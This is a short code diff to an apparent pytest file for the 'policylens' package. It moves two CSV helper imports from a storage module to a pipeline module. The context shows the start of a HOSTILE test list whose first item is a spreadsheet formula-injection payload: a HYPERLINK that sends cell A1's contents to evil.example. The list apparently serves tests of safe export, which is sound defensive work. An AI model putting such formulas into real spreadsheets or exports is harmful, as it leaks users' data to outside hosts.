@@ -15,8 +15,8 @@ pd = pytest.importorskip("pandas")
 
 from policylens import excel  # noqa: E402
 from policylens.errors import OutputError  # noqa: E402
+from policylens.pipeline import read_table_csv, table_to_csv_bytes  # noqa: E402
 from policylens.schema import TABLES, conform  # noqa: E402
-from policylens.storage import read_table_csv, table_to_csv_bytes  # noqa: E402
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
